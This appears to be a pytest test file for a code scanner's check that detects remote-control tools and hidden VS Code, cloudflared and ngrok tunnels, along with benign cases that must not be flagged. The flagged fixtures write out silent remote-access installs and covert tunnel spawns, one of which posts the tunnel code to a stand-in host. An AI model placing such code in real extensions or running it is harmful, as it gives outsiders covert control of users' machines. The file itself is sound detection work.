import pytest

from tests.flows import findings_of, worst
from tests.offline import found
from vscan.model import Severity
from vscan.providers.offline.checks.remote_control_tools import CHECK


@pytest.mark.parametrize(
    "code",
    [
        'get("https://acme.example/Bin/ScreenConnect.ClientSetup.msi")',
        'exec("msiexec /i ScreenConnect.msi /qn")',
        'get("https://acme.screenconnect.com/Bin/x.exe?e=Access&y=Guest")',
        'exec("AnyDesk.exe --install C:/x --start-with-win --silent")',
        'exec("echo secret | anydesk --set-password")',
        'exec("rustdesk.exe --silent-install")',
    ],
)
def test_a_delivered_remote_control_tool_is_found(code: str) -> None:
    assert found(code) == {"remote-control": Severity.CRITICAL}


@pytest.mark.parametrize(
    "code",
    [
        'const known = ["AnyDesk", "ScreenConnect", "TeamViewer"]',
        'open("https://anydesk.com")',
        'this.onScreenConnected = () => get("setup.exe")',
        'const name = "ScreenConnect"; /x/.exec(y)',
    ],
)
def test_the_name_of_a_remote_control_tool_is_not_found(code: str) -> None:
    assert found(code) == {}


def test_documentation_of_a_remote_control_tool_is_not_found() -> None:
    assert found("# Help\n\nmsiexec /i ScreenConnect.msi /qn", "README.md") == {}


START = """
const cp = require("child_process"), path = require("path"), vscode = require("vscode");
const https = require("https");
"""
HIDDEN_TUNNELS = (
    (
        "const cli = path.join(path.dirname(process.execPath), 'bin', 'code-tunnel');"
        " cp.spawn(cli, ['tunnel', '--accept-server-license-terms', '--name', 'a'],"
        " { detached: true }).unref();"
    ),
    "cp.exec('nohup code tunnel --accept-server-license-terms --name build > /dev/null 2>&1 &');",
    "cp.spawn('code', ['tunnel', '--no-sleep'], { windowsHide: true, stdio: 'ignore' });",
    "cp.execFile('code-insiders', ['tunnel', 'service', 'install', '--name', 'a']);",
    (
        "function open(cli) { const p = cp.spawn(cli, ['tunnel', '--accept-server-license-terms'],"
        " { stdio: 'ignore', detached: true }); p.unref(); } open(find());"
    ),
    (
        "const t = vscode.window.createTerminal({ name: 'x', hideFromUser: true });"
        " t.sendText('code tunnel --accept-server-license-terms');"
    ),
    (
        "const p = cp.spawn('code', ['tunnel', '--accept-server-license-terms']);"
        " p.stdout.on('data', (d) => { const m = /code (\\w{4}-\\w{4})/.exec(d);"
        " if (m) fetch('https://a.example.invalid/' + m[1], { method: 'POST' }); });"
    ),
    "cp.spawn('cloudflared', ['tunnel', '--url', 'ssh://localhost:22'], { detached: true });",
    "cp.spawn('ngrok', ['tcp', '22'], { detached: true, stdio: 'ignore' }).unref();",
)
OWN_TUNNELS = (
    (
        "vscode.commands.registerCommand('a.tunnel', () => cp.spawn('code',"
        " ['tunnel', '--accept-server-license-terms'], { detached: true }));"
    ),
    (
        "async function f() { if (await vscode.window.showWarningMessage('Share?', 'Yes'))"
        " cp.spawn('code', ['tunnel', '--name', 'a'], { detached: true }); }"
    ),
    (
        "const p = cp.spawn('code', ['tunnel', '--name', 'a']);"
        " p.stdout.on('data', (d) => vscode.window.showInformationMessage(String(d)));"
    ),
    (
        "cp.spawn(cli, ['tunnel', '--no-autoupdate', '--url', 'http://localhost:5173'],"
        " { windowsHide: true });"
    ),
    "cp.spawn('code', ['--list-extensions'], { detached: true });",
    "cp.spawn(tool, ['tunnel', 'run', 'dev'], { detached: true });",
    "cp.spawn('mole', ['--tunnel', 'a'], { detached: true });",
)


@pytest.mark.parametrize("source", HIDDEN_TUNNELS)
def test_a_tunnel_that_nobody_asked_for_is_found(source: str) -> None:
    """It starts by itself, and is hidden, stays, or tells its code."""
    assert worst(findings_of(CHECK, START + source), "remote-control") is Severity.HIGH


@pytest.mark.parametrize("source", OWN_TUNNELS)
def test_a_tunnel_of_the_user_is_not_found(source: str) -> None:
    """The user starts it or sees it, or it is another program's."""
    assert findings_of(CHECK, START + source) == []
